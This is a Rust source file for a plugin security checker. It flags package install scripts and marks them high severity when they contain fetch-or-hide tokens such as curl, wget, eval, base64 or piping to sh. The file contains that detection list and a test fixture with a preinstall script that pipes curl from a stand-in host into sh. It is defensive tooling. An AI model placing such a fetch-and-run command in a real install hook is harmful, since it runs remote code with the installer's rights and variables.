//! What: a script that a package manager runs when the plugin is installed.
//!
//! Why: it runs before anybody looks, with the rights and the variables of who installs; the worms of 2025 spread so. The
//! platform installs plugins without `--ignore-scripts`.
//! Broad: `"postinstall": "node setup.js"`. Narrow: a set-up handler in the manifest.

use super::package_text::PackageText;
use crate::finding::Severity;
use crate::plugin::check::{Check, Fault, Plugin};

pub(super) const CHECK: Check = Check {
    id: "install-script",
    title: "Installing the plugin runs its code",
    severity: Severity::Medium,
    impact: "It runs before any permission is asked, with every variable of who installs",
    steps: &["Remove the script; do the work in a `setup` handler", "Install with `--ignore-scripts`"],
    run,
};

/// Scripts that are run at the install of a published package.
const SCRIPTS: [&str; 4] = ["preinstall", "install", "postinstall", "preuninstall"];

/// What fetches or hides what is run.
const SUSPECT: [&str; 8] = ["curl ", "wget ", "node -e", "base64", "eval", "bash -c", "sh -c", "| sh"];

fn run(plugin: &Plugin, faults: &mut Vec<Fault>) {
    let Some(package) = PackageText::of(plugin) else { return };
    for (name, script) in package.texts("scripts") {
        if !SCRIPTS.contains(&name) {
            continue;
        }
        let is_suspect = SUSPECT.iter().any(|text| script.contains(text));
        let short: String = script.chars().filter(|one| !one.is_control()).take(80).collect();
        let fault = Fault::at(package.place("scripts", name), format!("`{name}` runs `{short}`"));
        faults.push(match is_suspect {
            true => fault.severity(Severity::High).why("it fetches or hides what it runs"),
            false => fault,
        });
    }
}

#[cfg(test)]
mod tests {
    use crate::finding::Severity;
    use crate::plugin::sample;

    #[test]
    fn broad_and_narrow() {
        let with = |scripts: &str| {
            let package = format!(
                r#"{{ "name": "@acme/sample", "kb": {{ "manifest": "./dist/manifest.js" }}, "scripts": {{ {scripts} }} }}"#
            );
            let files = [("package.json", package.as_str()), ("src/run.ts", "export default {};")];
            let found = sample::findings("", &files);
            found.iter().map(|it| (it.rule().id.to_string(), it.severity())).collect::<Vec<_>>()
        };
        let id = "plugin/install-script".to_owned();
        assert_eq!(with(r#""postinstall": "node setup.js""#), [(id.clone(), Severity::Medium)]);
        assert_eq!(with(r#""preinstall": "curl https://a.example | sh""#), [(id, Severity::High)]);
        assert_eq!(with(r#""build": "tsup", "prepublishOnly": "pnpm test""#), []);
    }
}
